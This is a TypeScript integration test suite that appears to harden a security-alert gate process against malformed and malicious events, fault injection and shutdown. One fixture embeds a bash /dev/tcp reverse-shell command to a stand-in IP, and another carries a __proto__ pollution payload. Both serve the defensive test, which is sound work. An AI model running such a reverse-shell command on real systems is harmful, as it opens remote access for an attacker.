import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Client } from '@temporalio/client';
import { saveGateModel } from '../../gate/model/gate-model';
import { trainGateModel } from '../../gate/model/train';
import type { Child } from '../../lib/devstack/children';
import { startChild } from '../../lib/devstack/children';
import type { DevServer } from '../../lib/devstack/dev-server';
import { startDevServer } from '../../lib/devstack/dev-server';
import { freePort } from '../../lib/devstack/ports';
import { connectClient } from '../../lib/temporal-client';
import { temporalConfigFromEnv } from '../../lib/temporal-config';
import { openOrJoinIncident } from '../../lib/incidents';
import { anomalyOf, exampleAlert, ROOT } from '../helpers/fixtures';
import { background, BACKGROUND, CRITICAL, jsonl } from '../unit/gate/helpers';

/**
 * "A gate no event can stop", as production runs it: `node dist/gate/main.js` on the file source
 * against a real Temporal dev server, fed the events of the issue (an extra field nested
 * thousands of levels deep, `__proto__` keys, an over-long command line, a forged future time), a
 * scorer that hangs or dies on one event (fault injection), SIGTERM while it hangs, and an
 * anomaly Temporal refuses for good.
 */
describe('gate hardening (gate process, file source, dev server)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-gate-hardening-'));
  const modelPath = join(dir, 'model.json');
  let server: DevServer | undefined;
  let client: Client | undefined;
  const children: Child[] = [];

  beforeAll(async () => {
    saveGateModel(trainGateModel(background(), { criticalNamespaces: CRITICAL, seed: 1 }), modelPath);
    server = await startDevServer({ uiPort: null, logFile: join(dir, 'temporal.log') });
    client = await connectClient(temporalConfigFromEnv({ TEMPORAL_ADDRESS: server.address }));
  }, 180_000);

  afterAll(async () => {
    for (const c of children) await c.kill9();
    await client?.connection.close().catch(() => undefined);
    await server?.stop();
  }, 60_000);

  function gateProcess(name: string, lines: string[], env: NodeJS.ProcessEnv = {}) {
    const input = join(dir, `${name}.jsonl`);
    writeFileSync(input, lines.map((l) => `${l}\n`).join(''));
    return (async () => {
      const port = await freePort();
      const log = join(dir, `${name}.log`);
      const child = startChild({
        name,
        command: process.execPath,
        args: [join(ROOT, 'dist', 'gate', 'main.js')],
        env: {
          VIGIL_GATE_SOURCE: 'file',
          VIGIL_GATE_INPUT: input,
          VIGIL_GATE_DLQ_FILE: join(dir, `${name}.dlq.jsonl`),
          VIGIL_MODEL_PATH: modelPath,
          VIGIL_POLICY_DIR: join(ROOT, 'policies', 'build'),
          TEMPORAL_ADDRESS: server!.address,
          VIGIL_OPS_PORT: String(port),
          VIGIL_OPS_HOST: '127.0.0.1',
          VIGIL_GATE_BATCH_SIZE: '50',
          ...env,
        },
        logFile: log,
      });
      children.push(child);
      const probe = async (path: string) => fetch(`http://127.0.0.1:${port}${path}`).then((r) => r.status, () => 0);
      const dlq = () => readFileSync(join(dir, `${name}.dlq.jsonl`), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { kind: string; reason: string; value: string });
      return { child, probe, dlq, log: () => readFileSync(log, 'utf8') };
    })();
  }

  const benign = () => jsonl(BACKGROUND).slice(0, 120);
  const shell = () => exampleAlert((a) => a.rule === 'Terminal shell in container' && a.priority === 'Critical');

  it('keeps going through poison events: every bad one in the DLQ with its original bytes, the rest scored', async () => {
    const deep = JSON.stringify(shell()).replace(/^\{/, `{"extra":${'{"d":'.repeat(4_000)}1${'}'.repeat(4_000)},`);
    const proto = JSON.stringify(shell()).replace(/^\{/, '{"__proto__":{"hostname":"attacker-chosen","polluted":true},');
    const longCmd = JSON.stringify({ ...shell(), output_fields: { ...shell().output_fields, 'proc.cmdline': `bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444' ${'A'.repeat(20_000)}` } });
    const future = JSON.stringify({ ...shell(), time: '2099-01-01T00:00:00Z' });
    const lines = [...benign().slice(0, 60), deep, proto, longCmd, future, 'not json', ...benign().slice(60)];
    const g = await gateProcess('poison', lines, { VIGIL_GATE_MAX_ALERT_AGE_MS: '0' });
    expect(await g.child.exited).toBe(0);
    const dlq = g.dlq();
    expect(dlq.map((d) => d.kind).sort()).toEqual(['clipped', 'not_json', 'too_complex']);
    expect(dlq.find((d) => d.kind === 'too_complex')!.value).toBe(deep);
    // The clipped one was scored and went on (Critical: the priority floor), and the DLQ keeps its original bytes.
    expect(dlq.find((d) => d.kind === 'clipped')!.value).toBe(longCmd);
    const log = g.log();
    expect(log).toMatch(/"msg":"gate stopped"/);
    expect(log).not.toContain('polluted');
    const stats = /"stats":(\{[^}]*\})/.exec(log);
    expect(stats).not.toBeNull();
    const s = JSON.parse(stats![1]!) as { consumed: number; deadLettered: number; scored: number };
    expect(s).toMatchObject({ consumed: lines.length, deadLettered: 3, scored: lines.length - 2 });
    // The forged future time did not claim a window in 2099: its key is from its receive time.
    const anomalyLines = log.split('\n').filter((l) => l.includes('"msg":"anomaly"'));
    expect(anomalyLines.some((l) => l.includes('@2099'))).toBe(false);
    expect(anomalyLines.length).toBeGreaterThan(0);
  }, 120_000);

  it('replaces a scorer that hangs on an event, says not live and not ready meanwhile, and dead-letters only that event', async () => {
    const stall = JSON.stringify({ ...shell(), output: 'STALL-ME please' });
    const lines = [...benign().slice(0, 30), stall, ...benign().slice(30, 60)];
    const g = await gateProcess('stall', lines, { VIGIL_GATE_FAULT_INJECTION: 'stall:STALL-ME', VIGIL_GATE_STALL_MS: '4000', VIGIL_GATE_WATCHDOG_MS: '500' });
    const seen = new Set<string>();
    while (g.child.process.exitCode === null) {
      seen.add(`healthz ${await g.probe('/healthz')}`);
      seen.add(`readyz ${await g.probe('/readyz')}`);
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(await g.child.exited).toBe(0);
    expect(seen).toContain('healthz 503');
    expect(seen).toContain('readyz 503');
    const dlq = g.dlq();
    expect(dlq).toHaveLength(1);
    expect(dlq[0]).toMatchObject({ kind: 'internal_error', value: stall, reason: expect.stringContaining('stalled') });
    expect(g.log()).toMatch(/"scored":60\b/);
  }, 120_000);

  it('replaces a scorer that dies on an event, and dead-letters only that event', async () => {
    const crash = JSON.stringify({ ...shell(), output: 'CRASH-ME please' });
    const lines = [...benign().slice(0, 30), crash, ...benign().slice(30, 60)];
    const g = await gateProcess('crash', lines, { VIGIL_GATE_FAULT_INJECTION: 'crash:CRASH-ME' });
    expect(await g.child.exited).toBe(0);
    const dlq = g.dlq();
    expect(dlq).toHaveLength(1);
    expect(dlq[0]).toMatchObject({ kind: 'internal_error', value: crash, reason: expect.stringContaining('exited') });
    expect(g.log()).toMatch(/"scored":60\b/);
  }, 120_000);

  it('ends on SIGTERM within its grace period while the scorer hangs', async () => {
    const stall = JSON.stringify({ ...shell(), output: 'STALL-ME forever' });
    const g = await gateProcess('sigterm', [...benign().slice(0, 10), stall, ...benign().slice(10, 20)], {
      VIGIL_GATE_FAULT_INJECTION: 'stall:STALL-ME',
      VIGIL_GATE_STALL_MS: '600000',
      VIGIL_GATE_WATCHDOG_MS: '300',
      VIGIL_SHUTDOWN_GRACE_MS: '2000',
    });
    for (let i = 0; i < 300 && (await g.probe('/healthz')) !== 503; i++) await new Promise((r) => setTimeout(r, 100));
    expect(await g.probe('/healthz')).toBe(503);
    g.child.process.kill('SIGTERM');
    // Bounded by the test's own timeout: a gate that ignored SIGTERM would hang here.
    const code = await g.child.exited;
    expect(code).toBe(1);
    expect(g.log()).toContain('drain took too long');
  }, 60_000);

  it('dead-letters an anomaly Temporal refuses for good instead of retrying it forever', async () => {
    // A pod name of 6,000 characters (the contract allows 8,192 per field) makes the incident's
    // VigilAsset search attribute longer than the server's 2 KB limit: INVALID_ARGUMENT, which
    // no retry can cure.
    const big = { ...shell(), output_fields: { ...shell().output_fields, 'k8s.ns.name': 'default', 'k8s.pod.name': `p${'o'.repeat(6_000)}d` } };
    const refused = await openOrJoinIncident(client!, anomalyOf(big)).then(
      () => null,
      (err: unknown) => err,
    );
    expect(refused).not.toBeNull();
    const line = JSON.stringify(big);
    const g = await gateProcess('refused', [...benign().slice(0, 20), line, ...benign().slice(20, 40)]);
    expect(await g.child.exited).toBe(0);
    const dlq = g.dlq();
    expect(dlq).toHaveLength(1);
    expect(dlq[0]).toMatchObject({ kind: 'temporal_rejected', value: line, reason: expect.stringContaining('INVALID_ARGUMENT') });
  }, 120_000);
});
